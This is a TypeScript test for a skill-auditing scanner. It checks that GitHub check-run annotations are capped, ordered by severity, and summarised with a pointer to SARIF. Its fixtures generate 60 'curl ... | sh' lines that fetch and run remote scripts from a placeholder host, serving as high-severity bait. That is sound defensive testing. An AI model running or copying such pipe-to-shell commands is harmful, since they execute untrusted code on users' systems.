/**
 * Issue 11 item 15: 20,000 findings made the check-run updates take minutes (50 annotations
 * per request). A run annotates at most a fixed number, the most severe first, and says how
 * many more are in SARIF. Replayed through a simulated PR run.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { MAX_ANNOTATIONS } from "../../src/github/checks";
import { orchestrate } from "../../src/github/orchestrate";
import { FakeGitHub } from "../support/github-server";
import { makeRepo, pullRequestEvent, simulatedRun, skillMd } from "./harness";

const LOW = Array.from({ length: 600 }, (_, i) => `r${i} = requests.get("https://api.example.com/v${i}")`);
const HIGH = Array.from({ length: 60 }, (_, i) => `curl -s https://get.example.com/s${i}.sh | sh`);

describe("an annotation flood is capped, most severe first", () => {
  let gh: FakeGitHub;
  beforeEach(async () => {
    gh = new FakeGitHub();
    await gh.start();
  });
  afterEach(async () => {
    await gh.stop();
    expect(gh.violations).toEqual([]);
  });

  it("660 findings over two skills: at most the cap is sent, high before low, the rest counted in the summary", async () => {
    const repo = makeRepo({
      // Alphabetically first, so an uncapped run would annotate its low findings first.
      "skills/a-low": {
        "SKILL.md": skillMd("a-low"),
        "scripts/get.py": `import requests\n${LOW.join("\n")}\n`,
      },
      "skills/b-high": {
        "SKILL.md": skillMd("b-high"),
        "scripts/install.sh": `#!/bin/sh\n${HIGH.join("\n")}\n`,
      },
    });
    const ev = pullRequestEvent(gh);
    gh.state.pullFiles.set(ev.number, [
      { filename: "skills/a-low/scripts/get.py", status: "added" },
      { filename: "skills/b-high/scripts/install.sh", status: "added" },
    ]);
    const run = simulatedRun(gh, repo, { name: "pull_request", payload: ev });
    await orchestrate(run.deps);

    const sarif = JSON.parse(readFileSync(join(repo, "out/skillaudit.sarif"), "utf8"));
    const total = sarif.runs[0].results.length as number;
    expect(total).toBeGreaterThanOrEqual(660);
    const check = gh.state.checkRuns[0];
    const levels = ((check?.annotations ?? []) as { annotation_level: string }[]).map(
      (a) => a.annotation_level,
    );
    expect(levels.length).toBe(MAX_ANNOTATIONS);
    expect(gh.calls("checks/update").length).toBe(Math.ceil(MAX_ANNOTATIONS / 50));
    const rank = { failure: 0, warning: 1, notice: 2 } as Record<string, number>;
    for (let i = 1; i < levels.length; i++)
      expect(rank[levels[i] as string]).toBeGreaterThanOrEqual(rank[levels[i - 1] as string] as number);
    expect(levels.filter((l) => l === "failure").length).toBe(Math.min(60, MAX_ANNOTATIONS));
    expect(check?.output.summary).toContain(`${total - MAX_ANNOTATIONS} more findings are not annotated`);
    expect(check?.output.summary).toContain("SARIF");
  });
});
